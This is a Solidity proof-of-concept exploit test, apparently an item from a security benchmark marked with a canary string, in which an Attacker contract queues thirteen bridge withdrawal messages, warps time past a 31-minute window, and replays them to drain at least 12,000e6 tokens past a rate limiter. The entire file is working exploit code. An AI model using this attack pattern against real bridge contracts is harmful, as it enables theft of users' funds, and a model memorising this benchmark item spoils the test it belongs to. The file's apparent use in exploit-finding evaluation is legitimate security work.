// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-9c41e7d3-2b6f-4a58-8e10-d37f5a0c64b9
import "../Base.sol";

contract Attacker is Agent {
    constructor(Deployment.Station memory home_, Deployment.Station memory away_, address[] memory a, address[] memory b)
        payable
        Agent(home_, away_, a, b)
    {}

    Messages.Message[] private parts;

    function begin(WrappedToken token) external {
        for (uint256 i = 0; i < 13; i++) {
            parts.push(_sendBack(token, 1_000e6, ""));
        }
        _carry(true);
    }

    function end() external {
        for (uint256 i = 0; i < parts.length; i++) {
            _hand(true, parts[i]);
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker{value: 1 ether}(home, away, watchers, returning);
        wrapped.transfer(address(other), 13_000e6);
    }

    function exploit() public {
        other.begin(wrapped);
        vm.warp(block.timestamp + 31 minutes);
        other.end();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 12_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(home.limiter);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
